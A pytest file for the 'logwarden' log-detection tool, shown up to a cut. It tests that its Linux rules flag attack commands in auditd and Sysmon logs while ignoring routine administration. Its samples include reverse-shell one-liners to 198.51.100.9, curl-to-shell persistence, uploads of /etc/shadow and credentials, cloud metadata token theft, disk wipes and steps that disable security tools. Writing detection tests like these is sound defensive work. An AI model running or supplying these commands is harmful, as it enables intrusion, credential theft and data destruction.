"""logwarden's own Linux host rules (app/detect/data/linux_host.yml, and auditd.yml's rules on commands).

Each rule meets the attack as the tools log it and the routine administration that looks like it,
which must stay quiet. Events go through the real parsers: auditd EXECVE records as the kernel writes
them (an argument with a space or a quote hex-encoded), Sysmon for Linux events as it writes them to
syslog (`… sysmon: <Event>…</Event>`), and auoms rows as Azure Log Analytics exports them. Commands
follow ATT&CK, GTFOBins and Atomic Red Team test descriptions (values anonymised)."""
from __future__ import annotations

from datetime import datetime, timedelta, timezone
from xml.sax.saxutils import escape

import pytest
from test_linux_execution_rules import auoms_row

from logwarden.app.detect import Detector
from logwarden.app.events import Event, LogLine
from logwarden.app.parse import parse_lines

T0 = datetime(2024, 5, 2, 9, 30, 0, tzinfo=timezone.utc)
_GUID = "{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"


def _audit_value(arg: str) -> str:
    """As the kernel writes an execve argument: quoted, or hex when it holds a space, quote or control byte."""
    if any(c in arg for c in ' "\'') or any(ord(c) < 0x21 or ord(c) > 0x7e for c in arg):
        return arg.encode().hex().upper()
    return f'"{arg}"'


def audit(argv: list[str], line_no: int = 1) -> Event:
    """One raw auditd EXECVE record (no exe, no user: those are in the SYSCALL record)."""
    stamp = (T0 + timedelta(seconds=line_no)).timestamp()
    args = " ".join(f"a{i}={_audit_value(a)}" for i, a in enumerate(argv))
    text = f"type=EXECVE msg=audit({stamp:.3f}:{4000 + line_no}): argc={len(argv)} {args}"
    [event] = parse_lines([LogLine("audit.log", 0, 0, line_no, text)], "auditd")
    return event


def _sysmon_line(event_id: int, data: dict, line_no: int) -> str:
    when = T0 + timedelta(seconds=line_no)
    items = "".join(f'<Data Name="{k}">{escape(str(v))}</Data>' for k, v in data.items())
    xml = (f'<Event><System><Provider Name="Linux-Sysmon" Guid="{_GUID}"/><EventID>{event_id}</EventID><Version>5'
           f'</Version><Level>4</Level><Task>{event_id}</Task><Opcode>0</Opcode><Keywords>0x8000000000000000'
           f'</Keywords><TimeCreated SystemTime="{when:%Y-%m-%dT%H:%M:%S}.123456000Z"/><EventRecordID>{9000 + line_no}'
           f'</EventRecordID><Correlation/><Execution ProcessID="811" ThreadID="811"/><Channel>Linux-Sysmon/Operational'
           f'</Channel><Computer>web01</Computer><Security UserId="0"/></System><EventData>{items}</EventData></Event>')
    return f"{when:%b %d %H:%M:%S} web01 sysmon: {xml}"


def sysmon(command_line: str, image: str | None = None, *, user: str = "root", parent: str = "/usr/bin/bash",
           cwd: str = "/root", line_no: int = 1) -> Event:
    """Sysmon for Linux event 1 as it writes it to /var/log/syslog."""
    image = image or ("/usr/bin/" + command_line.split()[0].rsplit("/", 1)[-1] if command_line else "/usr/bin/true")
    data = {"RuleName": "-", "UtcTime": f"{T0:%Y-%m-%d %H:%M:%S}.120", "ProcessGuid": "{7d3c1a2b-0c4e-6436-15b1-6d4dd7550000}",
            "ProcessId": 4000 + line_no, "Image": image, "FileVersion": "-", "Description": "-", "Product": "-",
            "Company": "-", "OriginalFileName": "-", "CommandLine": command_line, "CurrentDirectory": cwd, "User": user,
            "LogonGuid": "{7d3c1a2b-0000-0000-0000-000000000000}", "LogonId": 0, "TerminalSessionId": 3,
            "IntegrityLevel": "no level", "Hashes": "-", "ParentProcessGuid": "{7d3c1a2b-0c4e-6436-1551-c2a3c8550000}",
            "ParentProcessId": 3990, "ParentImage": parent, "ParentCommandLine": parent.rsplit("/", 1)[-1],
            "ParentUser": user}
    [event] = parse_lines([LogLine("syslog", 0, 0, line_no, _sysmon_line(1, data, line_no))], "syslog")
    assert event.format == "windows" and event.fields["Channel"] == "Linux-Sysmon/Operational"
    return event


def sysmon_file(target: str, image: str, line_no: int = 1) -> Event:
    """Sysmon for Linux event 11 (file created)."""
    data = {"RuleName": "-", "UtcTime": f"{T0:%Y-%m-%d %H:%M:%S}.120", "ProcessGuid": "{7d3c1a2b-0c4e-6436-15b1-6d4dd7550000}",
            "ProcessId": 4000 + line_no, "Image": image, "TargetFilename": target,
            "CreationUtcTime": f"{T0:%Y-%m-%d %H:%M:%S}.120", "User": "root"}
    [event] = parse_lines([LogLine("syslog", 0, 0, line_no, _sysmon_line(11, data, line_no))], "syslog")
    return event


def hits(rules, events: list[Event], rule_id: str) -> list[tuple[str, list[int]]]:  # noqa: F811
    return [(s.level, s.line_numbers) for s in Detector(rules).scan(events) if s.rule_id == rule_id]


def fires(rules, argv: list[str], rule_id: str) -> list[str]:  # noqa: F811
    """The levels the rule gives the command as auditd logs it and as Sysmon for Linux logs it."""
    command = " ".join(argv)
    return [level for event in (audit(argv), sysmon(command)) for level, _ in hits(rules, [event], rule_id)]


SH = ["sh", "-c"]

# rule id, level, attacks (argv), routine look-alikes (argv) that must stay quiet
CASES = [
    ("lw-linux-cron-job-written", "high",
     [SH + ["echo '* * * * * root /tmp/.x/run.sh' > /etc/cron.d/sysupdate"],
      SH + ["echo \"echo 'Hello from Atomic Red Team' > /tmp/atomic.log\" > /etc/cron.daily/persistevil"],
      SH + ["echo '@reboot curl -s http://203.0.113.7/a | sh' >> /var/spool/cron/crontabs/root"],
      ["crontab", "/tmp/persistevil"],
      SH + ["(crontab -l 2>/dev/null; echo '*/5 * * * * /dev/shm/.k') | crontab -"],
      ["cp", "/tmp/job", "/etc/cron.hourly/job"]],
     [["crontab", "-l"], ["crontab", "-e"], SH + ["crontab -l > /tmp/notevil"], ["run-parts", "/etc/cron.daily"],
      ["cat", "/etc/crontab"], ["ls", "-la", "/etc/cron.d/"], ["cp", "/etc/crontab", "/root/crontab.bak"]]),
    ("lw-linux-systemd-unit-written", "high",
     [SH + ["echo '[Service]' > /etc/systemd/system/art-systemd-service.service"],
      SH + ["printf '[Timer]\\nOnCalendar=*:0/5\\n' | tee /etc/systemd/system/upd.timer"],
      ["cp", "/tmp/dbus-helper.service", "/lib/systemd/system/dbus-helper.service"],
      ["systemctl", "link", "/dev/shm/kd.service"],
      ["systemd-run", "--user", "--unit=Atomic-Red-Team", "--on-calendar", "*:0/1", "/bin/sh", "-c", "echo x"]],
     [["systemctl", "daemon-reload"], ["systemctl", "enable", "--now", "nginx"], ["systemctl", "restart", "sshd"],
      ["cat", "/etc/systemd/system/nginx.service"], ["systemd-run", "--scope", "make"],
      ["cp", "/etc/systemd/system/app.service", "/root/app.service.bak"]]),
    ("lw-linux-ssh-authorized-keys-written", "high",
     [SH + ["echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMq x@kali' >> /root/.ssh/authorized_keys"],
      SH + ["curl -s http://203.0.113.7/k.pub | tee -a /home/ubuntu/.ssh/authorized_keys"],
      ["cp", "/tmp/k", "/root/.ssh/authorized_keys"]],
     [["cat", "/root/.ssh/authorized_keys"], ["chmod", "600", "/home/bob/.ssh/authorized_keys"],
      SH + ["cd; umask 077; mkdir -p .ssh && cat >> .ssh/authorized_keys || exit 1"],  # ssh-copy-id
      ["ssh-keygen", "-l", "-f", "/root/.ssh/authorized_keys"]]),
    ("lw-linux-shell-profile-payload", "high",
     [SH + ["echo 'echo \"Hello from Atomic Red Team T1546.004\" > /tmp/T1546.004' >> ~/.bash_profile"],
      SH + ["echo 'nohup /dev/shm/.s >/dev/null 2>&1 &' >> /home/bob/.bashrc"],
      SH + ["echo 'curl -s http://203.0.113.7/p | bash' >> /etc/profile.d/locale.sh"]],
     [SH + ["echo 'export PATH=$PATH:/usr/local/go/bin' >> ~/.bashrc"], ["cat", "/home/bob/.bashrc"],
      SH + ["source ~/.bashrc"]]),
    ("lw-linux-system-profile-modified", "medium",
     [SH + ["echo '# Atomic Red Team was here! T1546.004' >> /etc/profile"],
      SH + ["echo 'alias ls=ls' | tee -a /etc/bash.bashrc"]],
     [["cat", "/etc/profile"], SH + [". /etc/profile"], SH + ["echo 'export EDITOR=vim' >> ~/.profile"]]),
    ("lw-linux-user-profile-modified", "low",
     [SH + ["echo '# Hello from Atomic Red Team T1546.004' >> ~/.profile"]],
     [["cat", "/root/.profile"], ["vim", "/home/bob/.bashrc"]]),
    ("lw-linux-rc-script-modified", "high",
     [SH + ["echo '#! /bin/sh' > /etc/rc.local; echo '/tmp/.x &' >> /etc/rc.local; chmod +x /etc/rc.local"],
      SH + ["echo 'python3 /var/tmp/.u.py' | tee -a /etc/rc.d/rc.local"],
      ["cp", "/tmp/networking", "/etc/init.d/networking"]],
     [["/etc/init.d/nginx", "reload"], ["cat", "/etc/rc.local"], ["update-rc.d", "nginx", "defaults"]]),
    ("lw-linux-ld-preload-hijack", "high",
     [SH + ["echo /usr/local/lib/libprocesshider.so > /etc/ld.so.preload"],
      SH + ["LD_PRELOAD=/tmp/libhook.so /usr/bin/ssh-agent"], ["cp", "/tmp/ld.so.preload", "/etc/ld.so.preload"]],
     [SH + ["LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 /opt/app/server"], ["cat", "/etc/ld.so.preload"],
      ["ldconfig"]]),
    ("lw-linux-uid0-account", "critical",
     [["useradd", "-o", "-u", "0", "-g", "0", "-M", "-d", "/root", "-s", "/bin/bash", "butter"],
      ["usermod", "-o", "-u0", "backup"],
      SH + ["echo 'sysadm:$1$abc$xyz:0:0::/root:/bin/bash' >> /etc/passwd"]],
     [["useradd", "-m", "-u", "1001", "alice"], ["useradd", "-u", "1000", "bob"], ["usermod", "-u", "2000", "carol"],
      ["grep", ":0:0:", "/etc/passwd"]]),
    ("lw-linux-account-files-edited", "high",
     [SH + ["echo 'toor:x:0:0::/root:/bin/bash' >> /etc/passwd"], ["sed", "-i", "s/^bob:x:1001/bob:x:0/", "/etc/passwd"],
      ["cp", "/tmp/shadow.new", "/etc/shadow"], ["perl", "-pi", "-e", "s/!!//", "/etc/shadow"]],
     [["cat", "/etc/passwd"], ["cp", "/etc/passwd", "/root/passwd.bak"], ["vipw"], ["passwd", "bob"],
      ["grep", "bob", "/etc/group"]]),
    ("lw-linux-user-added-to-admin-group", "high",
     [["usermod", "-aG", "sudo", "sysupdate"], ["usermod", "-a", "-G", "docker,wheel", "mallory"],
      ["gpasswd", "-a", "mallory", "sudo"], ["adduser", "mallory", "root"], ["useradd", "-G", "wheel", "svc"]],
     [["usermod", "-aG", "www-data", "deploy"], ["adduser", "alice"], ["groups", "alice"], ["gpasswd", "-a", "bob", "audio"]]),
    ("lw-linux-sudoers-modified", "high",
     [SH + ["echo 'svc ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers"],
      SH + ["echo 'mallory ALL=(ALL:ALL) NOPASSWD:ALL' | tee /etc/sudoers.d/90-mallory"],
      ["sed", "-i", "s/^# %wheel/%wheel/", "/etc/sudoers"], ["cp", "/tmp/x", "/etc/sudoers.d/x"]],
     [["visudo", "-c"], ["cat", "/etc/sudoers"], ["sudo", "-l"], ["visudo", "-f", "/etc/sudoers.d/admins"]]),
    ("lw-linux-at-job", "medium",
     [SH + ["echo 'bash /tmp/.r.sh' | at now + 1 minute"], ["at", "-f", "/tmp/job.sh", "now"], ["at", "23:59"]],
     [["atq"], ["at", "-l"], ["systemctl", "status", "atd"], ["cat", "/etc/at.deny"], ["sh", "-c", "whereis at"]]),
    ("lw-linux-pam-modified", "high",
     [SH + ["echo 'auth optional pam_exec.so quiet expose_authtok /tmp/.l.sh' >> /etc/pam.d/common-auth"],
      ["sed", "-i", "1i auth sufficient pam_permit.so", "/etc/pam.d/sshd"],
      ["cp", "/tmp/pam_unix.so", "/lib/x86_64-linux-gnu/security/pam_unix.so"]],
     [["cat", "/etc/pam.d/sshd"], ["pam-auth-update", "--enable", "mkhomedir"], ["ls", "/lib/x86_64-linux-gnu/security/"]]),
    ("lw-linux-udev-rule-written", "high",
     [SH + ["echo 'ACTION==\"add\", RUN+=\"/tmp/.u\"' > /etc/udev/rules.d/99-persist.rules"],
      ["cp", "/tmp/71-x.rules", "/lib/udev/rules.d/71-x.rules"]],
     [["udevadm", "control", "--reload-rules"], ["cat", "/etc/udev/rules.d/70-persistent-net.rules"]]),
    ("lw-linux-suid-capability-enumeration", "medium",
     [["find", "/", "-perm", "-4000", "-type", "f"], ["find", "/", "-perm", "-u=s", "-type", "f"],
      ["find", "/usr", "-perm", "/6000"], ["getcap", "-r", "/"]],
     [["find", "/var/www", "-perm", "644", "-type", "f"], ["find", ".", "-name", "*.log"], ["getcap", "/usr/bin/ping"]]),
    ("lw-linux-capability-set", "high",
     [["setcap", "cap_setuid+ep", "/usr/bin/python3.10"], ["setcap", "cap_setuid=ep", "/tmp/cap"],
      ["setcap", "cap_dac_read_search,cap_sys_ptrace+ep", "/usr/bin/gdb"], ["setcap", "=ep", "/tmp/x"]],
     [["setcap", "cap_net_bind_service=+ep", "/usr/bin/node"], ["setcap", "cap_net_raw+ep", "/usr/bin/ping"],
      ["getcap", "/usr/bin/ping"]]),
    ("lw-linux-gtfobins-shell", "high",
     [["find", ".", "-exec", "/bin/sh", "-p", ";", "-quit"], ["awk", 'BEGIN {system("/bin/sh")}'],
      ["vim", "-c", ":!/bin/sh"], ["tar", "-cf", "/dev/null", "/dev/null", "--checkpoint=1", "--checkpoint-action=exec=/bin/sh"],
      ["zip", "/tmp/x.zip", "/etc/hosts", "-T", "-TT", "sh #"], ["gdb", "-nx", "-ex", "!sh", "-ex", "quit"],
      ["perl", "-e", 'exec "/bin/sh";'], ["python3", "-c", 'import os; os.system("/bin/sh")'],
      ["capsh", "--gid=0", "--uid=0", "--"], ["nmap", "--interactive"],
      ["ssh", "-o", "ProxyCommand=;sh 0<&2 1>&2", "x"]],
     [["find", ".", "-name", "*.tmp", "-exec", "rm", "{}", ";"], ["find", ".", "-exec", "sh", "-c", "gzip \"$1\"", "_", "{}", ";"],
      ["awk", "-F:", "{print $1}", "/etc/passwd"], ["vim", "-c", ":set number", "notes.txt"], ["tar", "-czf", "b.tgz", "/srv"],
      ["python3", "-c", 'import os; os.system("ls -la")'], ["gdb", "-p", "1234", "-ex", "bt"]]),
    ("lw-linux-tty-upgrade", "high",
     [["python3", "-c", 'import pty; pty.spawn("/bin/bash")'], ["python", "-c", "import pty;pty.spawn('/bin/sh')"],
      ["script", "-qc", "/bin/bash", "/dev/null"], ["script", "/dev/null", "-c", "bash"]],
     [["script", "-q", "-c", "make all", "build.log"], ["script", "session.log"], ["python3", "-c", "import pty; print(pty)"]]),
    ("lw-linux-container-escape", "high",
     [["docker", "run", "-it", "-v", "/:/host", "alpine", "chroot", "/host", "sh"],
      ["docker", "run", "--rm", "--privileged", "--pid=host", "ubuntu", "nsenter", "-t", "1", "-m", "-u", "-n", "-i", "sh"],
      ["nsenter", "--target", "1", "--mount", "--uts", "--ipc", "--net", "--pid", "--", "bash"],
      ["podman", "run", "--mount", "type=bind,source=/,target=/mnt", "alpine"]],
     [["docker", "run", "-v", "/srv/data:/data", "postgres:16"], ["docker", "run", "--privileged", "docker:dind"],
      ["nsenter", "-t", "43121", "-n", "ip", "addr"], ["docker", "ps"]]),
    ("lw-linux-k8s-token-read", "medium",
     [["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"],
      SH + ["curl -sk -H \"Authorization: Bearer $(cat /run/secrets/kubernetes.io/serviceaccount/token)\" https://kubernetes.default/api"],
      ["cp", "/etc/kubernetes/admin.conf", "/tmp/k"]],
     [["ls", "/var/run/secrets/kubernetes.io/serviceaccount/"], ["kubectl", "get", "pods"],
      ["kubeadm", "init", "--config", "/etc/kubernetes/kubeadm.yaml"]]),
    ("lw-linux-history-tampering", "high",
     [SH + ["history -c"], SH + ["unset HISTFILE"], SH + ["export HISTFILESIZE=0"], ["rm", "-f", "/root/.bash_history"],
      ["ln", "-sf", "/dev/null", "/home/bob/.bash_history"], SH + ["cat /dev/null > ~/.bash_history"],
      ["shred", "-u", "/root/.zsh_history"], SH + ["export HISTFILE=/dev/null"], SH + ["set +o history"]],
     [["cat", "/root/.bash_history"], SH + ["history | tail"], SH + ["export HISTSIZE=10000"],
      SH + ["echo ls >> ~/.bash_history"], ["grep", "ssh", "/root/.bash_history"]]),
    ("lw-linux-security-tool-disabled", "high",
     [["systemctl", "stop", "falcon-sensor"], ["systemctl", "disable", "--now", "rsyslog"], ["service", "osqueryd", "stop"],
      ["pkill", "-9", "wdavdaemon"], ["setenforce", "0"], ["systemctl", "mask", "sysmon.service"], ["aa-teardown"],
      SH + ["sed -i 's/SELINUX=enforcing/SELINUX=disabled/' /etc/selinux/config"], ["killall", "-9", "auditbeat"]],
     [["systemctl", "restart", "rsyslog"], ["systemctl", "status", "falcon-sensor"], ["systemctl", "stop", "nginx"],
      ["getenforce"], ["setenforce", "1"], ["service", "rsyslog", "reload"], ["pkill", "-HUP", "nginx"]]),
    ("lw-linux-firewall-disabled", "high",
     [["ufw", "disable"], ["ufw", "logging", "off"], ["systemctl", "stop", "firewalld"], ["iptables", "-F"],
      ["iptables", "-P", "INPUT", "ACCEPT"], ["nft", "flush", "ruleset"], ["service", "iptables", "stop"],
      SH + ["echo '-A ufw-user-input -j ACCEPT' >> /etc/ufw/user.rules"]],
     [["ufw", "status"], ["ufw", "allow", "22/tcp"], ["iptables", "-L", "-n"], ["iptables", "-F", "DOCKER-USER"],
      ["iptables", "-t", "nat", "-F", "KUBE-SERVICES"], ["systemctl", "restart", "firewalld"], ["iptables", "-P", "INPUT", "DROP"]]),
    ("lw-linux-timestomp", "medium",
     [["touch", "-a", "-t", "197001010000.00", "/tmp/T1070.006-access.txt"], ["touch", "-r", "/bin/ls", "/tmp/.impl"],
      ["touch", "-d", "1999-12-31 23:59", "/var/www/html/shell.php"], ["touch", "-acmr", "/etc/hosts", "/usr/bin/.backdoor"],
      ["touch", "-t", "202301010000", "/usr/bin/sshd"]],
     [["touch", "/tmp/lock"], ["touch", "-d", "@1700000000", "build/out.tar"], ["touch", "-r", "configure.ac", "Makefile.in"],
      ["touch", "-t", "202401010000", "/home/bob/notes.txt"]]),
    ("lw-linux-immutable-attribute", "high",
     [["chattr", "+i", "/etc/ld.so.preload"], ["chattr", "-ia", "/etc/passwd"], ["chattr", "+i", "/root/.ssh/authorized_keys"],
      ["chattr", "-R", "+i", "/var/spool/cron"], ["chattr", "+i", "/tmp/.x/kworker"]],
     [["chattr", "+i", "/etc/resolv.conf"], ["lsattr", "/etc/passwd"], ["chattr", "+a", "/var/log/app.log"]]),
    ("lw-linux-decode-to-shell", "high",
     [SH + ["echo ZWNobyBoaQ== | base64 -d | bash"], SH + ["echo Y3VybCBodHRwOi8vZXZpbA== | base64 --decode | sh"],
      SH + ["bash -c \"$(echo aWQK | base64 -d)\""], SH + ["xxd -r -p payload.hex | sh"],
      ["python3", "-c", "import base64;exec(base64.b64decode('cHJpbnQoMSk='))"],
      SH + ["cat x.b64 | base64 -d | python3"]],
     [SH + ["echo aGVsbG8K | base64 -d > /tmp/greeting"], ["base64", "-d", "cert.b64"], SH + ["base64 -d < in | sha256sum"],
      SH + ["base64 -d key.b64 | shasum"]]),
    ("lw-linux-exec-from-hidden-temp", "high",
     [["/dev/shm/kthread"], ["/tmp/.ICE-unix/.x/miner", "-o", "pool:3333"], ["/var/tmp/.cache/run"],
      ["chmod", "+x", "/tmp/.font-unix/.s"], ["chmod", "755", "/dev/shm/x"]],
     [["/tmp/tmp.Xa12/install.sh"], ["/tmp/.mount_CursorAb12/AppRun"], ["chmod", "+x", "/tmp/install.sh"],
      ["ls", "-la", "/tmp/.X11-unix"], ["/usr/bin/ls", "/dev/shm"]]),
    ("lw-linux-kernel-thread-masquerade", "high",
     [["[kworker/0:2]"], ["[kthreadd]", "-c", "/tmp/cfg"], ["kdevtmpfsi"], SH + ["exec -a '[kworker/1:1]' /tmp/.x &"]],
     [["kworker-monitor.sh"], ["ps", "-ef"], ["grep", "kworker"], ["/usr/sbin/watchdogd"]]),
    ("lw-linux-process-memory-credentials", "high",
     [["dd", "if=/proc/812/mem", "bs=1", "skip=94251", "count=4096"], SH + ["strings /proc/$pid/mem | grep -i pass"],
      ["gcore", "-o", "/tmp/core", "812"], ["strace", "-f", "-p", "812", "-e", "trace=read,write", "-s", "64"],
      ["python3", "mimipenguin.py"], ["python3", "laZagne.py", "all"], ["./mimipenguin.sh"]],
     [["cat", "/proc/meminfo"], ["cat", "/proc/812/status"], ["strace", "-c", "ls"], ["free", "-m"]]),
    ("lw-linux-private-key-or-credential-copied", "high",
     [["cat", "/root/.ssh/id_rsa"], ["cp", "/home/bob/.ssh/id_ed25519", "/tmp/.k"], ["tar", "czf", "/tmp/k.tgz", "/home/bob/.ssh/id_rsa"],
      ["cat", "/root/.aws/credentials"], ["base64", "/etc/ssh/ssh_host_ed25519_key"],
      ["curl", "-F", "f=@/home/bob/.git-credentials", "http://203.0.113.7/u"]],
     [["cat", "/root/.ssh/id_rsa.pub"], ["ssh", "-i", "/root/.ssh/id_rsa", "deploy@10.0.0.5"], ["chmod", "600", "/root/.ssh/id_rsa"],
      ["ssh-keygen", "-y", "-f", "/root/.ssh/id_ed25519"], ["aws", "s3", "ls"], ["cat", "/etc/ssh/ssh_host_ed25519_key.pub"]]),
    ("lw-linux-credential-search", "medium",
     [["grep", "-ri", "password", "/"], ["grep", "-rn", "secret", "/etc/"], ["find", "/", "-name", "id_rsa"],
      ["find", "/home", "-type", "f", "-name", ".netrc"], ["find", "/", "-name", "*.pem"],
      SH + ["cat ~/.bash_history | grep -e '-p ' -e 'pass' -e 'ssh' > loot.txt"]],
     [["grep", "-r", "TODO", "src/"], ["grep", "-ri", "password", "./config"], ["find", ".", "-name", "*.py"],
      ["find", "/var/log", "-name", "*.gz", "-mtime", "+30"]]),
    ("lw-linux-imds-credentials", "high",
     [["curl", "-s", "http://169.254.169.254/latest/meta-data/iam/security-credentials/web-role"],
      ["curl", "-H", "Metadata:true", "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"],
      ["curl", "-H", "Metadata-Flavor: Google", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"],
      SH + ["curl 169.254.170.2/v2/credentials/$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI"]],
     [["curl", "-s", "http://169.254.169.254/latest/meta-data/instance-id"],
      ["curl", "-X", "PUT", "http://169.254.169.254/latest/api/token", "-H", "X-aws-ec2-metadata-token-ttl-seconds: 21600"],
      ["curl", "-H", "Metadata-Flavor: Google", "http://metadata.google.internal/computeMetadata/v1/instance/hostname"]]),
    ("lw-linux-ssh-tunnel", "medium",
     [["ssh", "-fNR", "9000:localhost:22", "user@198.51.100.9"], ["ssh", "-D", "1080", "-N", "jump@198.51.100.9"],
      ["autossh", "-M", "0", "-R", "2222:127.0.0.1:22", "u@198.51.100.9"], ["ssh", "-o", "RemoteForward=8080 localhost:80", "x@y"]],
     [["ssh", "deploy@10.0.0.5"], ["ssh", "-L", "5432:db:5432", "bastion"], ["ssh", "-i", "key", "-p", "2222", "host"]]),
    ("lw-linux-tunnel-tool", "high",
     [["./chisel", "client", "198.51.100.9:8000", "R:socks"], ["/tmp/chisel", "server", "-p", "8000", "--reverse"],
      ["./agent", "-connect", "198.51.100.9:11601", "-ignore-cert"], ["frpc", "-c", "/tmp/frpc.ini"],
      ["ngrok", "tcp", "22"], ["socat", "tcp-listen:4444,fork", "tcp:10.0.0.5:22"], ["gost", "-L", "socks5://:1080"]],
     [["ngrok", "http", "3000"], ["socat", "-", "UNIX-CONNECT:/var/run/app.sock"], ["bore", "--version"]]),
    ("lw-linux-reverse-shell-oneliner", "critical",
     [SH + ["rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.9 4444 >/tmp/f"],
      ["python3", "-c", "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
       "s.connect((\"198.51.100.9\",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call([\"/bin/sh\",\"-i\"])"],
      ["perl", "-e", "use Socket;$i=\"198.51.100.9\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
       "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");exec(\"/bin/sh -i\");};"],
      ["php", "-r", "$sock=fsockopen(\"198.51.100.9\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");"],
      ["ruby", "-rsocket", "-e", "f=TCPSocket.open(\"198.51.100.9\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)"],
      ["awk", "BEGIN {s = \"/inet/tcp/0/198.51.100.9/4444\"; while(42) { s |& getline c; print c |& s }}"],
      SH + ["telnet 198.51.100.9 4444 | /bin/sh | telnet 198.51.100.9 4445"], ["xterm", "-display", "198.51.100.9:1"],
      ["busybox", "nc", "198.51.100.9", "4444", "-e", "sh"]],
     [SH + ["mkfifo /tmp/pipe; cat /tmp/pipe > out.log"], ["python3", "-c", "import socket; print(socket.gethostname())"],
      ["php", "-r", "echo phpversion();"], ["telnet", "mail.example.com", "25"], ["xterm", "-display", ":0"]]),
    ("lw-linux-sensitive-data-upload", "high",
     [["curl", "-F", "file=@/etc/passwd", "http://198.51.100.9/up"], ["curl", "-T", "/tmp/loot.tar.gz", "ftp://198.51.100.9/"],
      ["wget", "--post-file=/etc/shadow", "http://198.51.100.9/"], SH + ["tar czf - /home | nc 198.51.100.9 9001"],
      SH + ["nc 198.51.100.9 9001 < /tmp/dump.sql"], ["scp", "/etc/shadow", "x@198.51.100.9:/tmp/"]],
     [["curl", "-F", "file=@report.pdf", "https://files.example.com/upload"], ["curl", "-T", "build.log", "https://ci.example.com/"],
      ["tar", "czf", "/backup/www.tgz", "/srv/www"],
      ["scp", "app.tar.gz", "deploy@10.0.0.5:/opt/"]]),
    ("lw-linux-archive-collection", "medium",
     [["tar", "-czf", "/tmp/h.tgz", "/home"], ["tar", "cvzf", "/dev/shm/.e.tar.gz", "/etc"], ["zip", "-r", "/tmp/r.zip", "/root/"],
      ["zip", "--password", "s3cret", "/home/bob/data.zip", "/var/log/wtmp"], ["7z", "a", "-pS3cret", "/tmp/a.7z", "/srv/db"], ["zip", "-P", "pw", "-r", "out.zip", "docs"],
      ["gpg", "-c", "--pinentry-mode=loopback", "--passphrase", "x", "/tmp/data.zip"]],
     [["tar", "-czf", "/backup/etc.tgz", "/etc"], ["tar", "xzf", "/tmp/release.tgz"], ["zip", "-r", "site.zip", "public/"],
      ["gpg", "--verify", "SHA256SUMS.gpg"]]),
    ("lw-linux-disk-wipe", "high",
     [["dd", "if=/dev/zero", "of=/dev/sda", "bs=1M"], ["dd", "if=/dev/urandom", "of=/dev/nvme0n1"], ["shred", "-n", "3", "/dev/sdb"],
      ["rm", "-rf", "--no-preserve-root", "/"], ["rm", "-rf", "/*"]],
     [["dd", "if=/dev/zero", "of=/swapfile", "bs=1M", "count=1024"], ["dd", "if=/dev/sda", "of=/backup/sda.img"],
      ["rm", "-rf", "/tmp/build"], ["shred", "-u", "/tmp/secret.txt"]]),
    # auditd.yml's rules on commands, now also for Sysmon for Linux
    ("lw-auditd-reverse-shell-tool", "critical",
     [["nc", "-e", "/bin/sh", "198.51.100.9", "4444"], ["bash", "-c", "bash -i >& /dev/tcp/198.51.100.9/443 0>&1"],
      ["socat", "tcp:198.51.100.9:4444", "exec:/bin/bash,pty,stderr"]],
     [["nc", "-zv", "db01", "5432"], ["socat", "-", "TCP:10.0.0.5:80"]]),
    ("lw-auditd-log-tampering", "high",
     [["rm", "-f", "/var/log/auth.log"], ["auditctl", "-D"], ["systemctl", "stop", "auditd"]],
     [["auditctl", "-l"], ["logrotate", "/etc/logrotate.conf"], ["systemctl", "status", "auditd"]]),
    ("lw-auditd-shadow-read", "high",
     [["cat", "/etc/shadow"], ["cp", "/etc/shadow", "/tmp/s"]],
     [["ls", "-l", "/etc/shadow"], ["passwd", "-S", "bob"]]),
]


@pytest.mark.parametrize(("rule_id", "level", "attacks", "routine"), CASES, ids=[c[0] for c in CASES])
def test_rule_fires_on_the_attack_in_auditd_and_sysmon_and_stays_quiet_on_routine_commands(
        rules, rule_id, level, attacks, routine):  # noqa: F811
    for argv in attacks:
        assert fires(rules, argv, rule_id) == [level, level], argv
    for argv in routine:
        assert fires(rules, argv, rule_id) == [], argv


def test_routine_administration_makes_no_signal_above_low(rules):  # noqa: F811
    routine = [["apt-get", "install", "-y", "nginx"], ["systemctl", "restart", "nginx"], ["ls", "-la", "/etc"],
               ["ps", "aux"], ["df", "-h"], ["journalctl", "-u", "ssh", "--since", "today"], ["crontab", "-l"],
               ["tar", "-czf", "/backup/www.tgz", "/var/www"], ["git", "pull"], ["docker", "ps"],
               ["python3", "manage.py", "migrate"], ["curl", "-fsSL", "https://example.com/health"],
               SH + ["echo 'export PATH=$PATH:/opt/bin' >> ~/.bashrc"], ["vim", "/etc/nginx/nginx.conf"],
               ["ssh", "deploy@10.0.0.5"], ["find", "/var/log", "-name", "*.gz", "-delete"], ["uname", "-r"],
               ["chmod", "+x", "deploy.sh"], ["rsync", "-av", "/srv/", "backup:/srv/"], ["id", "deploy"]]
    events = [e for i, argv in enumerate(routine, 1) for e in (audit(argv, i), sysmon(" ".join(argv), line_no=i))]
    loud = [(s.rule_id, s.level) for s in Detector(rules).scan(events) if s.level not in ("low", "informational")]
    assert loud == []


# --- Sysmon for Linux file creations ------------------------------------------------------------------

@pytest.mark.parametrize(("rule_id", "level", "target", "image", "quiet_image"), [
    ("lw-linux-cron-file-created", "high", "/etc/cron.d/sysupdate", "/usr/bin/bash", "/usr/bin/dpkg"),
    ("lw-linux-cron-file-created", "high", "/var/spool/cron/crontabs/root", "/usr/bin/tee", "/usr/bin/crontab"),
    ("lw-linux-systemd-unit-file-created", "high", "/etc/systemd/system/dbus-helper.service", "/usr/bin/cp",
     "/usr/bin/systemctl"),
